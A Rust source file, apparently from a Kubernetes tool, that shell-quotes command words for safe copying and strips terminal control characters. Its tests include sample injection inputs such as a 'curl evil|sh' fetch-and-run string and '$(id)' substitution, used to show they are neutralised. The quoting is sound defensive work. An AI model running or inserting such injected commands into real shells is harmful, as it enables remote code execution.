//! Commands to copy: whatever a name holds, a shell takes it for one word. Pure.

use std::borrow::Cow;

use crate::words::printable;

/// Characters of a word of a command; names of Kubernetes objects have 253 at most, and patches are longer.
const MOST_CHARS: usize = 4000;

/// A word as a POSIX shell reads it: as it is where it holds nothing special, else in single quotes.
///
/// Characters that would steer a terminal are left out, as nobody sees what they do to the words around them.
#[must_use]
pub fn quoted(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", printable(word, MOST_CHARS).replace('\'', r"'\''")))
}

/// A command of these words.
#[must_use]
pub fn command<S: AsRef<str>>(words: &[S]) -> String {
    words.iter().map(|word| quoted(word.as_ref())).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_words_stay_as_they_are_and_others_are_quoted() {
        assert_eq!(command(&["kubectl", "get", "svc/gateway", "-n", "istio-system"]), "kubectl get svc/gateway -n istio-system");
        assert_eq!(quoted("x; curl evil|sh #"), "'x; curl evil|sh #'");
        assert_eq!(quoted("it's $(id) `id`"), r"'it'\''s $(id) `id`'");
        assert_eq!(quoted("a\u{1b}[8mb\nc"), "'a[8mb c'");
        assert_eq!(quoted(""), "''");
    }
}
